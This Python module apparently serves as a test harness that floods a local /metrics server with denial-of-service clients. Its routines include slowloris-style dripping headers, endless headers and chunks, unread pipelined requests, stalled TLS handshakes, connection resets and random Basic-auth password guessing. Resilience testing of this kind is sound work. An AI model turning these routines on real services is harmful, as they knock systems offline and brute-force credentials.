"""Clients that keep a server from its work, until this is ended:
    python3 -m support.attackers KIND COUNT PORT [PAUSE [ADDRESS]]
Whoever is cut off comes again PAUSE (0.1) seconds later. They come from ADDRESS (127.0.0.1), where
each '*' is another number each time."""

import asyncio
import base64
import random
import resource
import socket
import struct
import sys

PAUSE = 0.1
DRIP = 1.0
GET = b"GET /metrics HTTP/1.1\r\nHost: h\r\n\r\n"
POST = b"POST /metrics HTTP/1.1\r\nHost: h\r\n"
PROTOBUF = (b"GET /metrics HTTP/1.1\r\nHost: h\r\nAccept: application/vnd.google.protobuf;"
            b"proto=io.prometheus.client.MetricFamily;encoding=delimited\r\n\r\n")
# As many names as a query may have, each alike as far as it can be.
FILTERS = (b"GET /metrics?" + b"&".join(b"name[]=x_%s" % (b"9" * 100) for _ in range(64))
           + b" HTTP/1.1\r\nHost: h\r\n\r\n")


async def drip(writer, text=b"x"):
    while True:
        writer.write(text)
        await writer.drain()
        await asyncio.sleep(DRIP)


async def idle(reader, _):
    await reader.read()


async def slow_headers(_, writer):
    writer.write(b"GET /metrics HTTP/1.1\r\nX: ")
    await drip(writer)


async def expect(reader, writer):
    writer.write(POST + b"Content-Length: 100\r\nExpect: 100-continue\r\n\r\n")
    await reader.read()


async def endless_headers(_, writer):
    writer.write(b"GET /metrics HTTP/1.1\r\n")
    while True:
        writer.write(b"X-Endless: " + b"x" * 1000 + b"\r\n")
        await writer.drain()


async def endless_chunks(_, writer):
    writer.write(POST + b"Transfer-Encoding: chunked\r\n\r\n")
    while True:
        writer.write(b"1\r\nx\r\n" * 100)
        await writer.drain()


async def unread_pipeline(_, writer):
    """Asks for so many pages that no buffer of the system holds them, and takes none."""
    while True:
        writer.write(GET * 100)
        await writer.drain()


async def slow_reader(reader, writer):
    """The same, and takes a byte a second."""
    writer.write(GET * 2000)
    while await reader.read(1):
        await asyncio.sleep(DRIP)


async def protobuf_reader(reader, writer):
    """Stops inside one of the long lines that its page begins with."""
    writer.write(PROTOBUF)
    while await reader.read(1):
        await asyncio.sleep(DRIP)


async def filters(reader, writer):
    """Asks ten times a second for what is not there."""
    while True:
        writer.write(FILTERS)
        if not await reader.read(1000):
            return
        await asyncio.sleep(PAUSE)


async def wrong_passwords(reader, writer):
    """Tries one after the other, as often as it is let."""
    while True:
        guess = base64.b64encode(b"prometheus:%d" % random.getrandbits(64))
        writer.write(GET[:-2] + b"Authorization: Basic " + guess + b"\r\n\r\n")
        if not await reader.read(1000):
            return


async def half_handshake(reader, writer):
    """The beginning of a ClientHello, and no more."""
    writer.write(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
    await reader.read()


async def slow_handshake(_, writer):
    """The same, and a byte of it a second."""
    writer.write(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
    await drip(writer)


async def no_tls(reader, writer):
    """What a server that speaks TLS cannot read, again and again."""
    while True:
        writer.write(GET)
        if not await reader.read(1000):
            return


async def reset(_, writer):
    writer.write(GET)
    linger = struct.pack("ii", 1, 0)
    writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)


KINDS = {
    "idle": idle,
    "slow_headers": slow_headers,
    "expect": expect,
    "endless_headers": endless_headers,
    "endless_chunks": endless_chunks,
    "unread_pipeline": unread_pipeline,
    "slow_reader": slow_reader,
    "protobuf_reader": protobuf_reader,
    "filters": filters,
    "reset": reset,
    "half_handshake": half_handshake,
    "slow_handshake": slow_handshake,
    "no_tls": no_tls,
    "wrong_passwords": wrong_passwords,
}


async def connect(port, address):
    """With so little memory that what is not read stays at the server."""
    client = socket.socket()
    client.setblocking(False)
    client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    while "*" in address:
        address = address.replace("*", str(random.randint(2, 254)), 1)
    client.bind((address, 0))
    await asyncio.get_running_loop().sock_connect(client, ("127.0.0.1", port))
    return await asyncio.open_connection(sock=client, limit=1024)


async def attack(kind, port, pause, address):
    while True:
        writer = None
        try:
            reader, writer = await connect(port, address)
            await KINDS[kind](reader, writer)
        except OSError:
            pass
        if writer is not None:
            writer.close()
        await asyncio.sleep(pause)


async def main(kind, count, port, pause=PAUSE, address="127.0.0.1"):
    resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
    await asyncio.gather(*(attack(kind, port, float(pause), address) for _ in range(count)))


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), *sys.argv[4:]))
